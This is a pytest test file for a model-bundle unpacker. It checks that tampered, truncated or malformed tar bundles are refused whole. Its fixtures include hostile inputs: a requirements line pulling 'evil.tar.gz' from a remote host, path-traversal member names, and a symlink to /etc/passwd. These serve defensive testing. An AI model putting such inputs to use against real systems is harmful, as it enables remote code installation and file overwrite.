"""A bundle that was changed, cut off or is none is refused whole."""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
from brainzoo.zoo.bundling.unbundle import unbundle

from brainzoo.common.errors import BrainzooError, IntegrityError, NotFoundError
from brainzoo.zoo.hub import store

from ...conftest import Brainzoo

Members = list[tuple[tarfile.TarInfo, bytes]]


def members(path: Path) -> Members:
    with tarfile.open(path) as tar:
        return [(m, tar.extractfile(m).read()) for m in tar]  # type: ignore[union-attr]


def write(path: Path, content: Members) -> None:
    with tarfile.open(path, "w:") as tar:
        for member, data in content:
            member.size = len(data) if member.isreg() else 0
            tar.addfile(member, io.BytesIO(data))


def of(content: Members, name: str) -> int:
    return next(i for i, (member, _) in enumerate(content) if member.name == name)


def extra(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> Callable[[Members], None]:
    def change(content: Members) -> None:
        member = tarfile.TarInfo(name)
        member.type, member.linkname = kind, link
        content.append((member, b"x" if kind == tarfile.REGTYPE else b""))

    return change


def flip(name: str) -> Callable[[Members], None]:
    def change(content: Members) -> None:
        at = of(content, name)
        member, data = content[at]
        content[at] = (member, data[:-9] + bytes([data[-9] ^ 1]) + data[-8:])

    return change


def manifest(**values: object) -> Callable[[Members], None]:
    def change(content: Members) -> None:
        member, data = content[0]
        content[0] = (member, json.dumps({**json.loads(data), **values}).encode())

    return change


def drop(name: str) -> Callable[[Members], None]:
    return lambda content: content.pop(of(content, name)) and None


WEIGHTS = "checkpoint/model.safetensors"


def test_a_bundle_that_says_it_is_a_commit_is_not_simply_believed(
    made: Path, tmp_path: Path, brainzoo: Brainzoo
) -> None:
    changed = members(made)
    manifest(name="maker--heads", version="a1" * 20)(changed)
    write(tmp_path / "changed.tar", changed)
    assert "nothing in this bundle proves" in brainzoo("unbundle", tmp_path / "changed.tar").stderr
    told = hashlib.sha256((tmp_path / "changed.tar").read_bytes()).hexdigest()
    done = brainzoo("unbundle", tmp_path / "changed.tar", "--sha256", told)
    assert done.exit_code == 0
    assert "proves" not in done.stderr


def test_what_is_installed_comes_from_the_bundle_alone(
    made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pip would follow such lines even without an index."""
    changed = members(made)
    at = of(changed, "requirements.txt")
    lines = b"--find-links https://example.org/\nevil @ https://example.org/evil.tar.gz\n"
    changed[at] = (changed[at][0], lines)
    files = json.loads(changed[0][1])["files"]
    files["requirements.txt"] = {"size": len(lines), "sha256": hashlib.sha256(lines).hexdigest()}
    manifest(files=files)(changed)
    write(tmp_path / "changed.tar", changed)
    read: list[str] = []

    def pip(words: list[str]) -> subprocess.CompletedProcess[str]:
        read.append(Path(words[-1]).read_text())
        return subprocess.CompletedProcess(words, 0, "", "")

    monkeypatch.setattr("brainzoo.zoo.bundling.unbundle.pip", pip)
    unbundle(tmp_path / "changed.tar", install=True)
    assert "https:" not in read[0]
    assert [line.partition("==")[0] for line in read[0].splitlines()] == [
        "brainzoo-core",
        "brainzoo-tiny",
    ]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (flip(WEIGHTS), "is damaged: its SHA-256"),
        (flip("checkpoint/README.md"), "is damaged: its SHA-256"),
        (flip("wheels/brainzoo_tiny-0.1.0-py3-none-any.whl"), "is damaged: its SHA-256"),
        (flip("requirements.txt"), "is damaged: its SHA-256"),
        (drop(WEIGHTS), "it lacks checkpoint/model.safetensors"),
        (drop("README.txt"), "it lacks README.txt"),
        (drop("manifest.json"), "manifest.json does not come first"),
        (lambda c: c.clear(), "it lacks manifest.json"),
        (lambda c: c.append(c[0]), "manifest.json occurs twice"),
        (lambda c: c.append(c[of(c, WEIGHTS)]), "model.safetensors occurs twice"),
        (extra("../../evil.py"), "which no bundle holds"),
        (extra("/etc/evil"), "which no bundle holds"),
        (extra("checkpoint/../../evil"), "which no bundle holds"),
        (extra("wheels/../evil-1-py3-none-any.whl"), "which no bundle holds"),
        (extra("checkpoint/evil.py"), "which no bundle holds"),
        (extra("wheels/evil-1-py3-none-any.whl"), "not in the manifest"),
        (extra("checkpoint/verdict.json", tarfile.SYMTYPE, "/etc/passwd"), "no plain file"),
        (extra("checkpoint/verdict.json", tarfile.LNKTYPE, "README.txt"), "no plain file"),
        (extra("checkpoint/verdict.json", tarfile.CHRTYPE), "no plain file"),
        (extra("checkpoint/verdict.json", tarfile.FIFOTYPE), "no plain file"),
        (extra("checkpoint", tarfile.DIRTYPE), "no plain file"),
        (manifest(kind="other"), "makes no sense"),
        (manifest(schema=2), "of schema 2; this version reads 1"),
        (manifest(schema="1"), "makes no sense"),
        (manifest(name="../../etc"), "makes no sense"),
        (manifest(version=["1"]), "makes no sense"),
        (manifest(files={}), "makes no sense"),
        (manifest(files={"../evil": {"size": 1, "sha256": "0" * 64}}), "which no bundle holds"),
        (manifest(files=[1]), "makes no sense"),
    ],
)
def test_a_bundle_that_was_tampered_with_is_refused_whole(
    made: Path, tmp_path: Path, change: Callable[[Members], None], message: str
) -> None:
    content = members(made)
    change(content)
    write(tmp_path / "changed.tar", content)
    with pytest.raises(BrainzooError, match=message) as caught:
        unbundle(tmp_path / "changed.tar", install=True)
    assert caught.value.exit_code in (6, 7)
    assert "\n" not in str(caught.value)
    assert [path.name for path in store.root().iterdir()] == []
    assert not list(tmp_path.rglob("*evil*"))


@pytest.mark.parametrize("cut", [0, 100, 600, 50_000])
def test_a_bundle_that_was_cut_off(made: Path, tmp_path: Path, cut: int) -> None:
    (tmp_path / "cut.tar").write_bytes(made.read_bytes()[:cut])
    with pytest.raises(IntegrityError, match=r"cut\.tar is refused"):
        unbundle(tmp_path / "cut.tar")


def test_what_is_no_bundle(made: Path, tmp_path: Path) -> None:
    with pytest.raises(NotFoundError, match="no bundle"):
        unbundle(tmp_path / "nothing.tar")
    (tmp_path / "page.tar").write_text("<!DOCTYPE html>" * 100)
    (tmp_path / "empty").mkdir()
    with tarfile.open(tmp_path / "packed.tar", "w:gz") as tar:
        tar.add(made, "made.tar")
    for name in ("page.tar", "empty", "packed.tar"):
        with pytest.raises(IntegrityError, match="is refused"):
            unbundle(tmp_path / name)


def test_a_folder_with_a_link_is_refused(made: Path, tmp_path: Path) -> None:
    with tarfile.open(made) as tar:
        tar.extractall(tmp_path / "folder", filter="data")
    target = tmp_path / "folder" / "checkpoint" / "LICENSE"
    target.rename(tmp_path / "elsewhere")
    target.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(IntegrityError, match="no plain file"):
        unbundle(tmp_path / "folder")


def test_the_digest_that_the_maker_told(made: Path, brainzoo: Brainzoo) -> None:
    right = hashlib.sha256(made.read_bytes()).hexdigest()
    assert brainzoo("unbundle", made, "--sha256", right.upper()).exit_code == 0
    wrong = brainzoo("unbundle", made, "--sha256", "0" * 64)
    assert wrong.exit_code == 6
    assert "another bundle, or was changed" in wrong.stderr
